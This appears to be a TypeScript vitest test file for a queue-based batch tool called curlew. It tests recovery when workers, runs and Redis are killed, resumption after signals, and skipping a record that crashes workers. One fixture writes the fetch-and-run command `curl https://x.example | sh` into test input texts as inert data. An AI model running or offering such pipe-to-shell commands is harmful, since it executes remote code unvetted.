/** Tests that kill workers, runs and Redis, or wait until a worker is lost. */
import { readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { describe, expect, it } from "vitest";
import { curlew, start } from "../batch/curlew-process.js";
import {
  cwd,
  parts,
  queued,
  read,
  redis,
  remainingKeys,
  startOn,
  startDyingWorker,
  startWorker,
  textOf,
  whole,
  withoutTimingMessages,
} from "../queue/fixture.js";
import { RedisServer } from "../queue/redis.js";

describe("a run on a queue", () => {
  it("is completed even if workers and Redis are killed and another run uses the same queue", async () => {
    const workers = [startWorker("--rate", "4"), startWorker("--rate", "4")];
    const one = start(queued("killed"), { cwd });
    const two = start(queued("beside", redis.url, "other.csv"), { cwd });
    let over = false;
    const ended = Promise.all([one.ended, two.ended]).finally(() => (over = true));
    let kills = 0;
    for (let seen = parts("killed"); !over && kills < 4; seen = parts("killed")) {
      while (!over && parts("killed") < seen + 2) await sleep(20);
      if (over) break;
      const victim = workers.shift();
      victim?.child.kill("SIGKILL");
      await victim?.ended;
      if (++kills === 2) {
        await redis.stop();
        await sleep(300);
        await redis.start();
      }
      workers.push(startWorker("--rate", "4"));
    }
    const statuses = (await ended).map(({ status, stderr }) => [
      status,
      withoutTimingMessages(stderr),
    ]);
    expect(statuses).toEqual([
      [2, ""],
      [0, ""],
    ]);
    expect(kills).toBeGreaterThan(2);
    expect(read("killed.jsonl") === whole).toBe(true);
    expect(read("beside.jsonl") === read("other.jsonl")).toBe(true);
  });

  it.each([
    ["SIGINT", 130],
    ["SIGTERM", 143],
  ] as const)("is stopped by %s, and can be resumed", async (signal, status) => {
    startWorker("--rate", "2");
    const { child, ended } = start(queued(signal), { cwd });
    await expect.poll(() => parts(signal), { timeout: 60_000 }).toBeGreaterThan(1);
    child.kill(signal);
    const stopped = await ended;
    expect([stopped.status, withoutTimingMessages(stopped.stderr)]).toEqual([
      status,
      `curlew: stopped by ${signal}; finished partitions are kept: run the same command to continue\n`,
    ]);
    expect(parts(signal)).toBeLessThan(12);
    await expect.poll(remainingKeys, { timeout: 20_000 }).toEqual([]);
    startWorker();
    expect((await curlew(queued(signal), { cwd })).status).toBe(2);
    expect(read(`${signal}.jsonl`) === whole).toBe(true);
  });

  it("can be resumed after SIGKILL, and then uses the tasks that are still on the queue", async () => {
    const worker = startWorker("--rate", "2");
    const { child, ended } = start(queued("resumed"), { cwd });
    await expect.poll(() => parts("resumed"), { timeout: 60_000 }).toBeGreaterThan(1);
    child.kill("SIGKILL");
    await ended;
    const refused = await curlew(queued("resumed"), { cwd });
    expect([refused.status, withoutTimingMessages(refused.stderr)]).toEqual([
      2,
      expect.stringMatching(
        /^curlew: another run \(process \d+ on .*\) writes the same output; if it was killed, --resume takes over\n$/,
      ),
    ]);
    const next = await curlew([...queued("resumed"), "--resume"], { cwd });
    expect([next.status, withoutTimingMessages(next.stderr)]).toEqual([
      2,
      expect.stringMatching(
        /^curlew: waiting up to 20 s to see whether another run .* is still running\n$/,
      ),
    ]);
    expect(read("resumed.jsonl") === whole).toBe(true);
    expect(await remainingKeys()).toEqual([]);
    worker.child.kill("SIGTERM");
    expect((await worker.ended).stderr).toMatch(/done: partition part-00011/);
  });

  it("waits for a worker with the same rules, and reports workers with other rules", async () => {
    const log = textOf(startWorker("--profile", "contract"));
    const run = start(queued("refused"), { cwd });
    const stderr = textOf(run);
    await expect
      .poll(stderr, { timeout: 30_000 })
      .toMatch(
        /no running worker uses these rules \(curlew .*, extended profile, .*\); the running ones use: curlew .*, contract profile/,
      );
    await expect
      .poll(log, { timeout: 30_000 })
      .toMatch(
        /worker: refused: the partitions of run [\w-]+ are for other rules \(curlew .*, extended profile/,
      );
    startWorker();
    expect((await run.ended).status).toBe(2);
    expect(read("refused.jsonl") === whole).toBe(true);
  });

  it("has the partitions that a worker completes after SIGTERM", async () => {
    const worker = startWorker("--rate", "2");
    const { ended } = start(queued("ended"), { cwd });
    await expect.poll(() => parts("ended"), { timeout: 60_000 }).toBeGreaterThan(0);
    worker.child.kill("SIGTERM");
    expect(await worker.ended).toMatchObject({ status: 0, signal: null });
    startWorker();
    expect((await ended).status).toBe(2);
    expect(read("ended.jsonl") === whole).toBe(true);
  });

  it("is completed by other workers if one of them has another folder, which is reported", async () => {
    const log = textOf(startDyingWorker(join(cwd, "elsewhere")));
    const run = start(queued("place"), { cwd });
    const stderr = textOf(run);
    const reason = /the folder .*elsewhere of the run does not exist, or is a different one/;
    await expect.poll(log, { timeout: 30_000 }).toMatch(reason);
    await expect.poll(stderr, { timeout: 30_000 }).toMatch(reason);
    startWorker();
    expect((await run.ended).status).toBe(2);
    expect(read("place.jsonl") === whole).toBe(true);
  });

  it("finds and skips a record that kills its workers, and predicts all others", async () => {
    const texts = Array.from({ length: 90 }, (_, i) =>
      JSON.stringify({ id: i, text: i === 61 ? "ENDING" : `${i} \`curl https://x.example | sh\`` }),
    );
    writeFileSync(join(cwd, "texts.jsonl"), `${texts.join("\n")}\n`);
    const run = start(
      [...queued("ending", redis.url, "texts.jsonl"), "--partitions", "2", "-o", "joined.jsonl"],
      { cwd },
    );
    let over = false;
    let deaths = -1;
    void run.ended.finally(() => (over = true));
    while (!over) {
      const worker = startDyingWorker();
      deaths++;
      await Promise.race([worker.ended, run.ended]);
    }
    const { status, stderr } = await run.ended;
    expect(stderr).toMatch(/record 62 of texts[.]jsonl kills the workers: it is skipped\n$/);
    expect([status, deaths]).toEqual([2, 4]);
    const rows = read("joined.jsonl")
      .trimEnd()
      .split("\n")
      .map((row) => JSON.parse(row));
    expect(rows.map(({ id }) => id)).toEqual(texts.map((_, i) => i));
    expect(
      rows
        .filter(({ labels }) => labels.length === 0)
        .map(({ id, outcome }) => [id, outcome.status]),
    ).toEqual([[61, "incomplete"]]);
    expect(readdirSync(join(cwd, "ending")).filter((file) => /\d[.]\d/.test(file))).toEqual([]);
  });
});

describe("a queue that becomes unreachable", () => {
  it("ends a run, whose finished partitions are kept", async () => {
    const own = await RedisServer.start();
    startOn(own.url, ["--rate", "2"]);
    const { ended } = start([...queued("gone", own.url), "--queue-timeout", "2"], { cwd });
    await expect.poll(() => parts("gone"), { timeout: 60_000 }).toBeGreaterThan(0);
    await own.remove();
    const { status, stderr } = await ended;
    expect(status).toBe(2);
    expect(stderr).toMatch(
      /curlew: the queue at redis:.* did not become reachable again: nothing is listening there; finished partitions are kept: continue with --resume\n$/,
    );
    expect(stderr).not.toMatch(/\n\s+at /);
    expect(parts("gone")).toBeLessThan(12);
    startWorker();
    expect((await curlew(queued("gone"), { cwd })).status).toBe(2);
    expect(read("gone.jsonl") === whole).toBe(true);
  });
});
